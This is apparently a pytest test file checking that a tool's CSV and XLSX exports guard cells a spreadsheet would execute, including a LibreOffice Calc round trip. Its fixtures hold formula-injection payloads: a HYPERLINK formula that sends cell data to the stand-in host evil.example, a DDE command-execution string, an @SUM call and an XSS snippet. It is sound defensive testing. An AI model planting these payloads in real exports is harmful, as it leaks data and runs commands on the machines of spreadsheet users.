"""The CSVs hold what was printed, and a real spreadsheet (LibreOffice Calc, headless) runs
nothing when it opens them; ``--xlsx`` gives spreadsheet users typed cells and no formulas.

Expectations read from the printed forms: data/samples/000_e9a51e7a28d1f068.txt line 396 prints
the target ``=100%`` (成本指标 · 预算控制率); tests/data/xss-names.txt is a form whose names are
hostile, turned here into formulas a spreadsheet would execute.
"""

from __future__ import annotations

import csv
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from kg import pipeline
from kg.cli import main
from kg.resources import SAMPLES
from kg.views.render import executable

DATA = Path(__file__).parent / "data"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
AT_CALL = "@SUM(1+1)"


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The samples and a hostile form built with --xlsx into one folder each."""
    base = tmp_path_factory.mktemp("sheets")
    hostile = (DATA / "xss-names.txt").read_text(encoding="utf-8")
    hostile = hostile.replace(
        "<img src=x onerror=alert(1)></script><script>alert(2)</script>", HYPERLINK
    )
    hostile = hostile.replace("测试目标", AT_CALL).replace("测试单位", DDE)
    (base / "hostile.txt").write_text(hostile, encoding="utf-8")
    for name, src in [("samples", SAMPLES), ("hostile", base / "hostile.txt")]:
        done = CliRunner().invoke(main, ["build", str(src), "--out", str(base / name), "--xlsx"])
        assert done.exit_code == 0, done.output
    return base


def test_pandas_reads_the_printed_targets_and_operators(built: Path) -> None:
    frame = pd.read_csv(built / "samples" / "indicators.csv", dtype=str, keep_default_na=False)
    row = frame[(frame.source == "000_e9a51e7a28d1f068.txt") & (frame.line == "396")]
    assert row[["value", "operator", "number", "unit"]].values.tolist() == [
        ["=100%", "=", "100", "%"]
    ]
    assert (frame.operator == "=").sum() > 100  # every "=" target of the four documents
    for table in sorted((built / "samples").glob("*.csv")):
        with table.open(encoding="utf-8") as f:
            cells = [c for row in csv.reader(f) for c in row]
        assert not [c for c in cells if c.startswith("'")], table.name  # nothing needed a guard


def test_what_a_spreadsheet_would_execute_is_guarded(built: Path) -> None:
    with (built / "hostile" / "projects.csv").open(encoding="utf-8") as f:
        (row,) = list(csv.DictReader(f))
    assert row["name"] == "'" + HYPERLINK
    assert row["goal"] == "'" + AT_CALL
    assert row["implementing_unit"] == "'" + DDE
    assert row["total_yuan"] == "1000000"


def _calc(files: list[Path], out: Path, infilter: str | None = None) -> list[Path]:
    """Open files in LibreOffice Calc (headless) and save them as .xlsx in ``out``."""
    soffice = shutil.which("soffice")
    assert soffice, "make test installs LibreOffice Calc (.ci/system-packages)"
    profile = (out / "profile").resolve().as_uri()
    cmd = [soffice, f"-env:UserInstallation={profile}", "--headless"]
    cmd += [f"--infilter={infilter}"] if infilter else []
    cmd += ["--convert-to", "xlsx", "--outdir", str(out), *map(str, files)]
    subprocess.run(cmd, check=True, capture_output=True, timeout=300)
    return [out / f"{p.stem}.xlsx" for p in files]


def _cells(book: Path) -> list[openpyxl.cell.cell.Cell]:
    wb = openpyxl.load_workbook(book)
    return [c for ws in wb for row in ws.iter_rows() for c in row]


def test_libreoffice_runs_nothing_in_any_csv(built: Path, tmp_path: Path) -> None:
    """Every CSV, opened as UTF-8 with Calc's other defaults (formulas evaluated): no formula
    that calls a function, a DDE link or another sheet; the hostile names arrive as text."""
    books: list[Path] = []
    for folder in ("samples", "hostile"):
        files = sorted((built / folder).glob("*.csv"))
        assert len(files) == 12
        books += _calc(files, tmp_path / folder, infilter="CSV:44,34,76")
    formulas: list[str] = []
    texts: set[str] = set()
    for book in books:
        for cell in _cells(book):
            if cell.data_type == "f":
                formulas.append(str(cell.value))
            elif isinstance(cell.value, str):
                texts.add(cell.value)
    assert not [f for f in formulas if executable(f)]
    # what Calc does evaluate is arithmetic on printed literals, such as the target =100%
    assert set(formulas) <= {c for c in formulas if c.startswith("=") and "(" not in c}
    assert {"'" + HYPERLINK, "'" + AT_CALL, "'" + DDE} <= texts


def test_the_workbook_has_typed_cells_and_no_formula(built: Path, tmp_path: Path) -> None:
    book = built / "samples" / "tables.xlsx"
    wb = openpyxl.load_workbook(book)
    assert wb.sheetnames[:3] == ["projects", "departments", "statements"]
    sheet = wb["indicators"]
    head = [c.value for c in sheet[1]]
    rows = [dict(zip(head, (c.value for c in r), strict=True)) for r in sheet.iter_rows(min_row=2)]
    (target,) = [r for r in rows if r["source"] == "000_e9a51e7a28d1f068.txt" and r["line"] == 396]
    assert (target["value"], target["operator"], target["number"]) == ("=100%", "=", 100)
    with (built / "samples" / "indicators.csv").open(encoding="utf-8") as f:
        assert len(rows) == sum(1 for _ in csv.DictReader(f))
    # Calc opens the workbook and saves it again: still no formula, still the printed text
    for saved in [book, *_calc([book], tmp_path / "calc")]:
        cells = _cells(saved)
        assert not [c for c in cells if c.data_type == "f"], saved
        assert "=100%" in {c.value for c in cells}
    hostile = _cells(built / "hostile" / "tables.xlsx")
    assert {HYPERLINK, AT_CALL, DDE} <= {c.value for c in hostile}
    assert not [c for c in hostile if c.data_type == "f"]


def test_the_workbook_is_the_same_bytes_every_time(built: Path, tmp_path: Path) -> None:
    pipeline.build([SAMPLES], tmp_path, jobs=1)
    from kg.views.workbook import write_xlsx

    assert write_xlsx(tmp_path).read_bytes() == (built / "samples" / "tables.xlsx").read_bytes()
